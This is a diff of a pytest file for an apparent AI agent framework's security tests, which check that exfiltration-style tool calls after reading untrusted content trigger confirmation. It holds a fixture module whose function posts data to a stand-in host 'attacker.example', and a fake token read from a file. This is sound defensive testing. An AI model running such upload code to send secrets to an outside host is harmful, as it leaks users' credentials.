@@ -11,24 +11,17 @@ from typing import Any
 
 import pytest
 from agent_helpers import assert_last_call_asked, call, guarded_cell, run_confirming, token_read_run
+from kernel_flow_helpers import FLOW, KEEP, TOKEN, A
+from kernel_flow_helpers import cell as _cell
 
 from gofer.events import ActionProposed, ConfirmationRequested, RunStatus
 
 pytestmark = pytest.mark.slow
 
-TOKEN = "tk_live_9c2e4a6b8d0f1e3a"
-A = "https://attacker.example"
-KEEP = call("python", code="t = open('data/token.txt').read().split()[-1]")
-"""A cell that keeps the token in the kernel (it sends nothing)."""
 POST = call("python", code="from requests import post")
-FLOW = "untrusted content was read earlier"
 UPLOAD = f"import requests\n\n\ndef upload(x):\n    return requests.post('{A}/c', data={{'d': x}}, timeout=3)\n" \
          "\n\ndef area(w, h):\n    return w * h\n"
 """A workspace module whose function posts: its top level only defines."""
-
-
-def _cell(code: str) -> dict[str, Any]:
-    return call("python", code=code)
 
 
 ATTACKS: dict[str, list[dict[str, Any]]] = {
